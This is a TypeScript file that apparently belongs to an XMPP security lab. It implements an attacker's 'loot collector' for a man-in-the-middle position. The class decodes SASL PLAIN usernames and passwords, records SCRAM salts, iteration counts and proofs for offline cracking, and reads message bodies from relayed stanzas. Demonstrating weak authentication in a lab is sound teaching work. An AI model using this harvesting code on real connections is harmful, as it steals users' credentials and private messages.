import type { Element } from "ltx";
import type { LootItem } from "../lab/core/events.js";
import { NS } from "../lab/core/ns.js";
import { decodePlain } from "../lab/core/sasl/plain.js";
import { parseAttributes, unescapeName } from "../lab/core/sasl/scram.js";
import { unb64 } from "../lab/core/stanzas.js";

/**
 * mallory's notebook: reads SASL and messages out of elements that crossed its sockets.
 * Every item here was decoded from bytes the attacker actually relayed.
 */
export class LootCollector {
  private scram: { mechanism: string; clientFirst: string; serverFirst: string } | null = null;

  constructor(private readonly found: (item: LootItem) => void) {}

  fromClient(el: Element): void {
    if (el.getNS() === NS.sasl && el.name === "auth") {
      const mech = (el.attrs.mechanism as string | undefined) ?? ""; // an <auth/> may lack it (RFC 6120 §6.5.7)
      if (mech === "PLAIN") {
        // RFC 4616: the password itself, base64-encoded - encoding is not encryption.
        const creds = decodePlain(el.getText());
        if (creds) this.found({ type: "credential", mechanism: mech, username: creds.username, password: creds.password });
      } else if (mech.startsWith("SCRAM-")) {
        this.scram = { mechanism: mech, clientFirst: unb64(el.getText()), serverFirst: "" };
      }
    } else if (el.getNS() === NS.sasl && el.name === "response" && this.scram?.serverFirst) {
      const { mechanism, clientFirst, serverFirst } = this.scram;
      const bare = clientFirst.slice(clientFirst.indexOf(",", clientFirst.indexOf(",") + 1) + 1);
      const sf = parseAttributes(serverFirst);
      // RFC 5802 §9: salt, iteration count and proof are enough for an offline dictionary attack.
      this.found({
        type: "scram",
        mechanism,
        username: unescapeName(parseAttributes(bare).get("n") ?? ""),
        salt: sf.get("s") ?? "",
        iterations: Number(sf.get("i") ?? 0),
        clientFirst,
        serverFirst,
        clientFinal: unb64(el.getText()),
      });
      this.scram = null;
    } else this.message(el);
  }

  fromServer(el: Element): void {
    if (el.getNS() === NS.sasl && el.name === "challenge" && this.scram) {
      this.scram.serverFirst = unb64(el.getText());
    } else this.message(el);
  }

  private message(el: Element): void {
    if (el.name !== "message") return;
    const body = el.getChildText("body");
    if (body === null) return;
    this.found({ type: "message-read", from: (el.attrs.from as string) ?? null, to: (el.attrs.to as string) ?? null, body });
  }
}
